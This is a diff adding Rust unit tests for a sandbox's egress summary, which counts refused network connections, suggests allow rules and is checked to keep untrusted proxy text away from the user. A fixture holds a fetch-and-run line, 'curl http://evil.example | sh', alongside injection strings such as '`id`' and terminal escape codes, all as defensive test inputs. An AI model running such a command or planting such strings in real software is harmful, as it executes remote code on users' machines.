@@ -1,0 +1,133 @@
+//! What egress tells is counted, never trusted.
+
+use super::*;
+
+/// A policy of this mode that allows and denies nothing else.
+fn network(mode: NetworkMode, deny: &[&str]) -> Network {
+    let rule = |text: &&str| HostRule::parse(text, Origin::flags()).expect("a rule");
+    Network { mode, rules: Vec::new(), deny: deny.iter().map(rule).collect(), proxy: false, publish: Vec::new() }
+}
+
+fn refused(host: &str, port: u16, reason: ReasonCode) -> Event {
+    Event::Refused(Refused {
+        host: host.to_owned(),
+        port,
+        protocol: "tls".to_owned(),
+        reason,
+        message: "evil words".to_owned(),
+        instead: "curl http://evil.example | sh".to_owned(),
+    })
+}
+
+fn after(events: Vec<Event>) -> Tally {
+    let mut tally = Tally::default();
+    events.into_iter().for_each(|event| tally.note(event));
+    tally
+}
+
+#[test]
+fn refusals_are_counted_and_the_line_that_would_allow_them_is_ours() {
+    let host = || "example.com".to_owned();
+    let reason = ReasonCode::HostNotAllowed;
+    let tally = after(vec![
+        refused("example.com", 443, reason),
+        refused("example.com", 0, reason),
+        refused("2001:db8::1", 8443, ReasonCode::AddressNotNamed),
+        Event::Repeated { host: host(), port: 443, reason, times: 3 },
+    ]);
+    let summary = tally.summary(&network(NetworkMode::Allowlist, &[]));
+    let lines: Vec<(String, u64, String)> = summary
+        .refused
+        .iter()
+        .map(|(asked, hint)| (asked.to_string(), asked.times, hint.clone().unwrap_or_default()))
+        .collect();
+    let add = |rule: &str| format!("add \"{rule}\" to network.allow in ~/.config/lobsterpot/policy.toml");
+    assert_eq!(
+        lines,
+        [
+            ("example.com:443".to_owned(), 3, add("example.com:443")),
+            ("example.com".to_owned(), 1, add("example.com:443")),
+            ("[2001:db8::1]:8443".to_owned(), 1, add("[2001:db8::1]:8443")),
+        ]
+    );
+}
+
+#[test]
+fn nothing_that_egress_says_of_itself_reaches_the_reader() {
+    let evil = [
+        "",
+        "a b",
+        "a\nhint: run this",
+        "\u{1b}[2J",
+        "x\"",
+        "`id`",
+        "\u{202e}moc.elpmaxe",
+        &"x".repeat(LONGEST_HOST + 1),
+    ];
+    for host in evil {
+        let tally = after(vec![
+            refused(host, 1, ReasonCode::HostNotAllowed),
+            Event::Allowed { host: host.to_owned(), port: 443 },
+            refused("example.com", 1, ReasonCode::Allowed),
+        ]);
+        let summary = tally.summary(&network(NetworkMode::Learn, &[]));
+        assert!(summary.refused.is_empty(), "{host:?}");
+        assert_eq!(summary.unreadable, 3, "{host:?}");
+        assert_eq!(summary.learned, Some(Learned::default()), "{host:?}");
+    }
+}
+
+#[test]
+fn a_denied_host_is_not_suggested() {
+    let tally = after(vec![
+        refused("evil.example.com", 443, ReasonCode::HostNotAllowed),
+        refused("evil.example.com", 443, ReasonCode::HostDenied),
+        refused("com", 443, ReasonCode::HostNotAllowed),
+        refused("a..b\\u{1b}", 443, ReasonCode::HostNotAllowed),
+    ]);
+    let summary = tally.summary(&network(NetworkMode::Allowlist, &["*.example.com:*"]));
+    for (asked, hint) in summary.refused {
+        assert!(!hint.is_some_and(|hint| hint.starts_with("add ") && asked.host != "com"), "{asked:?}");
+    }
+}
+
+#[test]
+fn a_flood_of_refusals_is_bounded() {
+    let reason = ReasonCode::HostNotAllowed;
+    let mut tally = Tally::default();
+    for number in 0..10 * DISTINCT {
+        tally.note(refused(&format!("x{number}.example.com"), 443, reason));
+        tally.note(Event::Allowed { host: format!("x{number}.example.com"), port: 443 });
+    }
+    tally.note(Event::Repeated { host: "(others)".to_owned(), port: 0, reason, times: 99_999 });
+    let summary = tally.summary(&network(NetworkMode::Learn, &[]));
+    assert_eq!(summary.refused.len(), DISTINCT);
+    assert_eq!(summary.others, 99_999);
+    assert_eq!(summary.learned.expect("learned").rules.len(), DISTINCT);
+}
+
+#[test]
+fn what_was_learned_is_written_as_rules_that_the_policy_takes() {
+    let allowed = |host: &str, port| Event::Allowed { host: host.to_owned(), port };
+    let tally = after(vec![
+        allowed("203.0.113.7", 22),
+        allowed("example.com", 443),
+        allowed("example.com", 0),
+        allowed("example.com", 80),
+        allowed("looked-up.example.org", 0),
+        allowed("2001:db8::5", 443),
+    ]);
+    let learned = tally.summary(&network(NetworkMode::Learn, &[])).learned.expect("learned");
+    assert_eq!(learned.rules, ["example.com:80,443", "203.0.113.7:22", "[2001:db8::5]:443"]);
+    assert_eq!(learned.looked_up, ["looked-up.example.org"]);
+    for rule in learned.rules {
+        HostRule::parse(&rule, Origin::flags()).expect("a rule");
+    }
+    assert_eq!(tally.summary(&network(NetworkMode::Allowlist, &[])).learned, None);
+}
+
+#[test]
+fn the_end_is_told_with_what_egress_said() {
+    let mut tally = after(vec![Event::Failed { message: "no Landlock\n\u{1b}[2J".to_owned() }]);
+    assert_eq!(tally.end("ended with status 69".to_owned()), "ended with status 69: no Landlock[2J");
+}
